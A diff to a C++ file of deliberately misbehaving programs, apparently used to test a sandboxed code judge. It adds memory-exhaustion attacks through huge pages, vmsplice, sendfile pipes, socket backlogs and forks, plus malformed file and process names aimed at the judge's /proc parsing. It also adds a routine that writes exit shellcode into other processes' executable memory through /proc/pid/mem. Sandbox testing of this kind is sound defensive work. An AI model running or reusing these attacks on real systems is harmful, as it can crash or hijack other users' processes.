@@ -1,5 +1,6 @@
 // Programs that misbehave, all in one binary: data/attack.txt names the one to run and what it may aim at.
-// A line each: the name, the path of the reference, the port of a listener, a folder everybody may write to (with a Unix listener).
+// A line each: the name, the path of the reference, the port of a listener, a folder everybody may write to (with a Unix listener),
+// a folder below a system folder where that can be (with a Unix listener and a named pipe).
 // "Won" is an output file that holds the reference, or, where the verdict says so, any right output; what the judge must notice by itself
 // has no output.
 #include <algorithm>
@@ -25,9 +26,11 @@
 #include <sys/mman.h>
 #include <sys/mount.h>
 #include <sys/msg.h>
+#include <sys/prctl.h>
 #include <sys/ptrace.h>
 #include <sys/resource.h>
 #include <sys/sem.h>
+#include <sys/sendfile.h>
 #include <sys/shm.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
@@ -35,10 +38,11 @@
 #include <sys/sysmacros.h>
 #include <sys/un.h>
 #include <sys/wait.h>
+#include <sys/uio.h>
 #include <sys/xattr.h>
 #include <unistd.h>
 
-static std::string reference, victim;
+static std::string reference, victim, below_system;
 static int port;
 static const char* OUT = "data/out.bin";
 
@@ -143,6 +147,48 @@ static int send_by_message(int fd, sockaddr_un address) {
     message.msg_name = &address, message.msg_namelen = length_of(address), message.msg_iov = &data, message.msg_iovlen = 1;
     return sendmsg(fd, &message, 0) < 0;
 }
+// Pages of a file that are in no process and in no folder any more: one of each two megabytes is given to a pipe, and holds the rest.
+static bool one_pipe(std::function<bool(int, size_t)> give) {
+    int ends[2];
+    if (pipe2(ends, O_NONBLOCK)) return false;
+    for (size_t at = 0; at < size_t(32) << 20; at += 2 << 20)
+        if (!give(ends[1], at)) return false;
+    return true;
+}
+static bool gives_huge_pages() {
+    const size_t span = 34 << 20;
+    char* block = static_cast<char*>(mmap(nullptr, span, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0));
+    if (block == MAP_FAILED) return false;
+    char* begin = block + (-reinterpret_cast<uintptr_t>(block) & ((2 << 20) - 1));
+    madvise(begin, 32 << 20, MADV_HUGEPAGE);
+    bool given = one_pipe([&](int end, size_t at) { memset(begin + at, 1, 2 << 20); iovec page{begin + at, 4096}; return vmsplice(end, &page, 1, 0) == 4096; });
+    munmap(block, span);
+    return given;
+}
+static bool sends_file_pages() {
+    int fd = full_file("data/gone", 32 << 20);
+    bool given = one_pipe([&](int end, size_t at) { off_t from = at; return sendfile(end, fd, &from, 4096) == 4096; });
+    unlink("data/gone");
+    close(fd);
+    return given;
+}
+// Code that ends a process with 0, behind steps that do nothing, into all that its parents run.
+static void overwrite_parents() {
+    for (pid_t pid = 1; pid < 100000; pid++) {
+        if (pid == getpid()) continue;
+        std::ifstream maps("/proc/" + std::to_string(pid) + "/maps");
+        int memory = open(("/proc/" + std::to_string(pid) + "/mem").c_str(), O_RDWR);
+        for (std::string line; memory >= 0 && std::getline(maps, line);) {
+            unsigned long begin, end;
+            char kind[5];
+            if (sscanf(line.c_str(), "%lx-%lx %4s", &begin, &end, kind) != 3 || kind[2] != 'x') continue;
+            std::string code(end - begin, '\x90');
+            const char leave[] = "\x31\xff\xb8\xe7\x00\x00\x00\x0f\x05";
+            code.replace(code.size() - sizeof leave + 1, sizeof leave - 1, leave, sizeof leave - 1);
+            if (pwrite(memory, code.data(), code.size(), begin) < 0) break;
+        }
+    }
+}
 static void* hold_and_win(void*) {
     usleep(20000);
     hog(TOO_MUCH);
@@ -236,6 +282,22 @@ static std::map<std::string, std::function<int()>> attacks = {
             int other = accept(listener, nullptr, nullptr); fcntl(fd, F_SETFL, O_NONBLOCK);
             (void)other; for (int tries = 0; tries < 20; tries++) { ssize_t sent; while ((sent = write(fd, piece, sizeof piece)) > 0) total += sent; usleep(500); } }
         return total < TOO_MUCH ? 1 : held(); }},
+    {"memory_in_huge_pages", [] { for (int i = 0; i < 16; i++) if (!gives_huge_pages()) return 1; return held(); }},
+    {"memory_sent_from_files", [] { for (int i = 0; i < 16; i++) if (!sends_file_pages()) return 1; return held(); }},
+    {"memory_not_accepted", [] { size_t total = 0; static char piece[16384]; int size = 64 << 20;
+        while (total < TOO_MUCH) { int listener = socket(AF_UNIX, SOCK_STREAM, 0); sockaddr_un address{}; address.sun_family = AF_UNIX;
+            socklen_t length = sizeof(sa_family_t); size_t before = total;
+            if (bind(listener, reinterpret_cast<sockaddr*>(&address), length) || listen(listener, 4096)) return 1;
+            length = sizeof address; getsockname(listener, reinterpret_cast<sockaddr*>(&address), &length);
+            for (int i = 0; i < 4096 && total < TOO_MUCH; i++) { int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
+                setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &size, sizeof size);
+                if (connect(fd, reinterpret_cast<sockaddr*>(&address), length)) { close(fd); break; }
+                for (ssize_t count; (count = write(fd, piece, sizeof piece)) > 0;) total += count;
+                close(fd); }
+            if (total == before) return 1; }
+        return held(); }},
+    {"memory_of_many_children", [] { for (int i = 0; i < 600; i++) if (fork() == 0) { if (i >= 500) hog(8 << 20); pause(); }
+        sleep(1); return held(); }},
     {"memory_behind_a_dead_leader", [] { pthread_t thread; pthread_create(&thread, nullptr, hold_and_win, nullptr); pthread_exit(nullptr); return 0; }},
     // disk
     {"disk_mapped_files", [] { for (int i = 0; i < 32; i++) { int fd = full_file("data/gone", 16 << 20); shared_block(4096, fd);
@@ -263,6 +325,20 @@ static std::map<std::string, std::function<int()>> attacks = {
     {"floods_stdout", [] { fill(1); return 0; }},
     {"floods_then_right", [] { for (int i = 0; i < 300000; i++) puts("flood of text that nobody wants to read"); puts("the end"); return good(); }},
     {"closes_stdout", [] { close(0); close(1); close(2); return good(); }},
+    // blaming the judge
+    {"maps_odd_names", [] { for (const char* name : {"data/\xff\xfe", "data/a\rb", "data/\r", "data/a (deleted)"}) for (bool gone : {true, false}) {
+        write_file(name, "x", 1); shared_block(4096, open(name, O_RDWR)); if (gone) unlink(name); }
+        usleep(300000); return good(); }},
+    {"odd_process_names", [] { for (const char* name : {"a\rVmPTE: x", "a\rVmRSS: \xff", "a) Z (b", "\xff\n\r"}) if (fork() == 0) {
+        prctl(PR_SET_NAME, name); usleep(300000); _exit(0); }
+        usleep(400000); return good(); }},
+    {"memory_behind_vfork", [] { hog(120 << 20); for (int i = 0; i < 10; i++) if (vfork() == 0) { usleep(50000); _exit(0); } return good(); }},
+    {"many_mappings", [] { int fd = full_file("data/gone", 1 << 20); unlink("data/gone"); for (int i = 0; i < 49; i++) if (fork() == 0) break;
+        for (int i = 0; i < 64000; i++) mmap(nullptr, 4096, PROT_READ, MAP_SHARED | MAP_POPULATE, fd, 0);
+        for (;;) pause(); return 0; }},
+    {"many_open_files", [] { full_file("data/gone", 1 << 20); int fd = open("data/gone", O_RDWR); unlink("data/gone");
+        for (int i = 0; i < 59; i++) if (fork() == 0) break;
+        while (dup(fd) >= 0); for (;;) pause(); return 0; }},
     // reading what is not its own
     {"reads_reference", [] { return hand_in(reference) ? 0 : 1; }},
     {"reads_reference_upwards", [] { std::string up; for (int i = 0; i < 12; i++) { up += "../"; if (hand_in(up + reference)) return 0; } return 1; }},
@@ -322,6 +398,12 @@ static std::map<std::string, std::function<int()>> attacks = {
         failed += sendto(fd, "x", 1, 0, reinterpret_cast<sockaddr*>(&address), length_of(address)) < 0;
         failed += send_by_message(fd, address);
         return failed == 2 ? 1 : good(); }},
+    {"talks_below_system", [] { sockaddr_un address{}; address.sun_family = AF_UNIX; strcpy(address.sun_path, (below_system + "/listener").c_str());
+        bool won = connect(socket(AF_UNIX, SOCK_STREAM, 0), reinterpret_cast<sockaddr*>(&address), sizeof address) == 0;
+        won |= write(open((below_system + "/pipe").c_str(), O_WRONLY | O_NONBLOCK), "x", 1) == 1; char byte;
+        won |= read(open((below_system + "/full").c_str(), O_RDONLY | O_NONBLOCK), &byte, 1) == 1;
+        return won ? good() : 1; }},
+    {"overwrites_parents", [] { good(); overwrite_parents(); abort(); return 0; }},
     {"opens_other_sockets", [] { for (int family = 0; family < 64; family++) for (int kind : {SOCK_STREAM, SOCK_DGRAM, SOCK_RAW, SOCK_SEQPACKET})
         if (family != AF_UNIX && family != AF_NETLINK && family != AF_INET && family != AF_INET6 && socket(family, kind, 0) >= 0) return good();
         return 1; }},
@@ -369,6 +451,7 @@ int main() {
     std::getline(request, reference);
     std::getline(request, number);
     std::getline(request, victim);
+    std::getline(request, below_system);
     port = atoi(number.c_str());
     auto found = attacks.find(name);
     return found == attacks.end() ? 99 : found->second();
